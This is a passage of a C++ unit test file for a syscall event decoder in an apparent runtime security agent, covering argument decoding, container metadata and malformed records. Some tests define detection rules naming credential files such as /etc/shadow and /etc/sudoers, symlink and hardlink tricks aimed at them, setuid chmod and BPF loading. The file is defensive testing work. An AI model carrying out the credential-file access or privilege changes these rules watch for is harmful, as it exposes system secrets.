  const fields::SyscallEvent* ev = decode(rec(VG_T_SETUID).res(0).args({65534}));
  ASSERT_NE(ev, nullptr);
  EXPECT_EQ(field(ev, "evt.arg.uid"), "nobody");
  EXPECT_EQ(field(ev, "evt.rawarg.uid"), "65534");
  EXPECT_TRUE(rules_.fires("evt.type=setuid and user.name=root and evt.arg.uid=nobody", ev));
  ev = decode(rec(VG_T_SETUID).res(0).args({4321}));
  EXPECT_EQ(field(ev, "evt.arg.uid"), "4321");
  ev = decode(rec(VG_T_SETRESGID).res(0).args({65534, 65534, 0}));
  EXPECT_EQ(field(ev, "evt.arg.egid"), "nogroup");
  EXPECT_EQ(field(ev, "evt.arg.sgid"), "root");
}

TEST_F(EventDecoderTest, SymlinkAndLinkPaths) {
  decode(rec(VG_T_CHDIR).res(0).cwd("/tmp"));
  const std::string prelude =
      "- list: sensitive_file_names\n  items: [/etc/shadow, /etc/sudoers, /etc/pam.conf]\n"
      "- list: sensitive_directory_names\n  items: [/, /etc, /etc/, /root, /root/]\n"
      "- macro: create_symlink\n  condition: (evt.type in (symlink, symlinkat) and evt.dir=<)\n"
      "- macro: create_hardlink\n  condition: (evt.type in (link, linkat) and evt.dir=<)\n";
  const fields::SyscallEvent* ev = decode(rec(VG_T_SYMLINKAT)
                                              .res(0)
                                              .args({0, static_cast<uint64_t>(AT_FDCWD), 0})
                                              .path("/etc/shadow")
                                              .path2("innocent"));
  ASSERT_NE(ev, nullptr);
  EXPECT_EQ(field(ev, "evt.arg.target"), "/etc/shadow");
  EXPECT_EQ(field(ev, "evt.arg.linkpath"), "/tmp/innocent");
  EXPECT_EQ(field(ev, "evt.arg.linkdirfd"), "AT_FDCWD");
  EXPECT_TRUE(
      rules_.fires("create_symlink and (evt.arg.target in (sensitive_file_names) or "
                   "evt.arg.target in (sensitive_directory_names))",
                   ev, prelude));
  ev = decode(rec(VG_T_LINK).res(0).path("../etc/shadow").path2("s"));
  EXPECT_EQ(field(ev, "evt.arg.oldpath"), "/etc/shadow");
  EXPECT_EQ(field(ev, "evt.arg.newpath"), "/tmp/s");
  EXPECT_TRUE(
      rules_.fires("create_hardlink and (evt.arg.oldpath in (sensitive_file_names))", ev, prelude));
  ev = decode(rec(VG_T_SYMLINK).res(0).path("/root").path2("/tmp/r"));
  EXPECT_EQ(field(ev, "evt.arg[0]"), "/root");
  EXPECT_EQ(field(ev, "evt.arg[1]"), "/tmp/r");
}

TEST_F(EventDecoderTest, RenameatWithTwoDirfds) {
  const fields::SyscallEvent* ev = decode(rec(VG_T_RENAMEAT2)
                                              .res(0)
                                              .args({5, 0, 6, 0, 1})
                                              .path("a")
                                              .path2("b")
                                              .dirfd_path("/src")
                                              .dirfd_path("/dst"));
  EXPECT_EQ(field(ev, "evt.arg.oldpath"), "/src/a");
  EXPECT_EQ(field(ev, "evt.arg.newpath"), "/dst/b");
  EXPECT_EQ(field(ev, "evt.arg.flags"), "RENAME_NOREPLACE");
  // Only the second dirfd is a real directory: the one blob belongs to it.
  decode(rec(VG_T_CHDIR).res(0).cwd("/home"));
  ev = decode(rec(VG_T_RENAMEAT)
                  .res(0)
                  .args({static_cast<uint64_t>(AT_FDCWD), 0, 6, 0})
                  .path("a")
                  .path2("b")
                  .dirfd_path("/dst"));
  EXPECT_EQ(field(ev, "evt.arg.oldpath"), "/home/a");
  EXPECT_EQ(field(ev, "evt.arg.newpath"), "/dst/b");
  EXPECT_EQ(field(ev, "evt.arg.olddirfd"), "AT_FDCWD");
}

TEST_F(EventDecoderTest, FlagArguments) {
  const fields::SyscallEvent* ev = decode(rec(VG_T_UNLINKAT)
                                              .res(0)
                                              .args({static_cast<uint64_t>(AT_FDCWD), 0, 0x200})
                                              .path("/var/lib/x"));
  EXPECT_TRUE(rules_.fires("evt.arg.flags contains AT_REMOVEDIR and evt.arg.name=/var/lib/x", ev));
  ev = decode(rec(VG_T_MEMFD_CREATE).res(4).args({0, 1 | 2}).path("payload"));
  EXPECT_EQ(field(ev, "evt.arg.flags"), "MFD_CLOEXEC|MFD_ALLOW_SEALING");
  EXPECT_EQ(field(ev, "evt.arg.name"), "payload");
  EXPECT_EQ(field(ev, "fd.type"), "memfd");
  ev = decode(rec(VG_T_BPF).res(5).args({5}));
  EXPECT_TRUE(rules_.fires("evt.arg.cmd=BPF_PROG_LOAD and evt.rawarg.cmd=5", ev));
  EXPECT_EQ(field(ev, "fd.type"), "bpf");
  ev = decode(rec(VG_T_UNSHARE).res(0).args({0x00020000 | 0x10000000}));
  EXPECT_EQ(field(ev, "evt.arg.flags"), "CLONE_NEWNS|CLONE_NEWUSER");
  ev = decode(rec(VG_T_SETNS).res(0).args({3, 0x40000000}).fdpath("net:[4026531840]"));
  EXPECT_EQ(field(ev, "evt.arg.nstype"), "CLONE_NEWNET");
  ev = decode(rec(VG_T_CHMOD).res(0).args({0, 04755}).path("/usr/bin/x"));
  EXPECT_TRUE(rules_.fires("evt.arg.mode contains S_ISUID and evt.arg.filename=/usr/bin/x", ev));
  EXPECT_EQ(field(ev, "evt.rawarg.mode"), std::to_string(04755));
  ev = decode(rec(VG_T_KILL).res(0).args({1, 9}));
  EXPECT_EQ(field(ev, "evt.arg.sig"), "SIGKILL");
  ev = decode(rec(VG_T_MKDIR).res(0).args({0, 0755}).path("/x"));
  EXPECT_EQ(field(ev, "evt.arg.path"), "/x");
  ev = decode(rec(VG_T_CLONE).res(1234).args({0x00010000 | 0x00000100 | 17}));
  EXPECT_EQ(field(ev, "evt.arg.flags"), "CLONE_THREAD|CLONE_VM");
}

// ----- containers -------------------------------------------------------------------------------

TEST_F(EventDecoderTest, ContainerFromTheCgroup) {
  metadata_.known = false;
  const fields::SyscallEvent* ev =
      decode(rec(VG_T_OPENAT, 2000).cgroup(container_cgroup_).res(3).path("/etc/hosts"));
  ASSERT_NE(ev, nullptr);
  EXPECT_EQ(field(ev, "container.id"), kId.substr(0, 12));
  EXPECT_EQ(field(ev, "container.full_id"), kId);
  EXPECT_EQ(field(ev, "container.type"), "docker");
  EXPECT_EQ(field(ev, "container.name"), "<NA>");
  EXPECT_EQ(field(ev, "fd.containername"), kId.substr(0, 12) + ":/etc/hosts");
  EXPECT_EQ(ev->k8s, nullptr);
  EXPECT_EQ(metadata_.calls, 1);

  // Metadata arrives later: looked up again once the retry interval has passed (event time).
  metadata_.known = true;
  auto b = rec(VG_T_OPENAT, 2000).cgroup(container_cgroup_).res(3).path("/etc/hosts");
  ev = decode(b);
  EXPECT_EQ(metadata_.calls, 1);
  b.hdr().ts += 3'000'000'000ull;
  ev = decode(b);
  EXPECT_EQ(metadata_.calls, 2);
  EXPECT_EQ(metadata_.last_id, kId);
  EXPECT_EQ(field(ev, "container.name"), "web");
  EXPECT_EQ(field(ev, "container.image"), "nginx:1.25");
  EXPECT_EQ(field(ev, "k8s.pod.name"), "web-7d9c");
  EXPECT_EQ(field(ev, "k8s.ns.name"), "prod");
  EXPECT_EQ(field(ev, "k8s.pod.label[app]"), "web");
  // Found: never looked up again.
  b.hdr().ts += 3'000'000'000ull;
  decode(b);
  EXPECT_EQ(metadata_.calls, 2);

  // The host.
  ev = decode(rec(VG_T_OPENAT, 2001).res(3).path("/etc/hosts"));
  EXPECT_EQ(field(ev, "container.id"), "host");
  EXPECT_EQ(ev->container, nullptr);
}

TEST_F(EventDecoderTest, HybridHostContainerFromV1Cgroups) {
  // A runtime that placed the container in v1 hierarchies only: its unified cgroup is the
  // host's. The exec that starts the container's process finds it in /proc/<pid>/cgroup.
  write_file(dir_ + "/proc/5000/cgroup",
             "4:memory:/docker/" + kId + "\n1:cpu:/docker/" + kId + "\n0::/\n");
  CgroupResolverOptions co;
  co.mount_point = dir_ + "/cg";
  co.proc_root = dir_ + "/proc";
  co.v1_fallback = true;
  CgroupResolver hybrid(co);
  EventDecoder decoder(*processes_, hybrid, DecoderOptions{});
  RawRecord r = rec(VG_T_EXECVE, 5000).res(0).comm("nginx").argv({"nginx"}).build();
  const fields::SyscallEvent* ev = decoder.decode(r.data(), r.size);
  ASSERT_NE(ev, nullptr);
  EXPECT_EQ(field(ev, "container.id"), kId.substr(0, 12));
  // Later records of the process (and its children) keep it without reading /proc again.
  r = rec(VG_T_OPENAT, 5000).res(3).path("/etc/nginx/nginx.conf").build();
  ev = decoder.decode(r.data(), r.size);
  EXPECT_EQ(field(ev, "container.id"), kId.substr(0, 12));
  EXPECT_EQ(hybrid.stats().v1_lookups, 1u);
  // Without the fallback the process is on the host.
  r = rec(VG_T_EXECVE, 5001).res(0).comm("nginx").argv({"nginx"}).build();
  ev = decoder_->decode(r.data(), r.size);
  EXPECT_EQ(field(ev, "container.id"), "host");
}

// ----- bookkeeping ------------------------------------------------------------------------------

TEST_F(EventDecoderTest, MalformedAndStateOnlyRecords) {
  uint8_t garbage[300] = {1, 2, 3};
  EXPECT_EQ(decoder_->decode(garbage, sizeof(garbage)), nullptr);
  EXPECT_EQ(decoder_->decode(garbage, 10), nullptr);
  RawRecord bad = rec(VG_T_OPENAT).path("/x").build();
  bad.header().abi = 99;
  EXPECT_EQ(decoder_->decode(bad.data(), bad.size), nullptr);
  EXPECT_EQ(decoder_->stats().malformed, 3u);
  EXPECT_EQ(decoder_->stats().malformed_by_reason[static_cast<size_t>(RecordError::kBadAbi)], 1u);
  EXPECT_EQ(decoder_->stats().malformed_by_reason[static_cast<size_t>(RecordError::kTruncated)],
            1u);
  EXPECT_EQ(decode(rec(VG_T_FORK, 1000).res(1001)), nullptr);
  EXPECT_EQ(decoder_->stats().state_only, 1u);
  // Event numbers count events only, from 1.
  const fields::SyscallEvent* ev = decode(rec(VG_T_OPENAT).res(3).path("/x"));
  ASSERT_NE(ev, nullptr);
  EXPECT_EQ(ev->num, 1u);
  EXPECT_FALSE(rules_.fires("evt.num=0", ev));
  ev = decode(rec(VG_T_CLOSE).res(0).args({3}).fdpath("/x").fdinfo(3, VG_FD_FILE));
  EXPECT_EQ(ev->num, 2u);
  EXPECT_EQ(field(ev, "fd.name"), "/x");
  EXPECT_EQ(field(ev, "evt.arg.fd"), "<f>/x");
  EXPECT_EQ(decoder_->stats().events, 2u);
  EXPECT_EQ(decoder_->stats().records, 6u);
}

TEST_F(EventDecoderTest, SteadyStateReusesEverything) {
  // Many events from a few processes: the table does not grow, and the per-event arena is reset.
  for (int i = 0; i < 20000; ++i) {
    const uint32_t pid = 3000 + static_cast<uint32_t>(i % 50);
    const fields::SyscallEvent* ev =
        decode(rec(VG_T_OPENAT, pid)
                   .res(3)
                   .args({static_cast<uint64_t>(AT_FDCWD), 0, O_RDONLY, 0})
                   .path(i % 2 == 0 ? "/etc/ld.so.cache" : "rel/../x")
                   .fdinfo(3, VG_FD_FILE));
    ASSERT_NE(ev, nullptr);
  }
  EXPECT_EQ(processes_->size(), 50u);
  EXPECT_EQ(decoder_->stats().events, 20000u);
  EXPECT_EQ(processes_->stats().from_header, 50u);
}

}  // namespace
}  // namespace vigil::agent
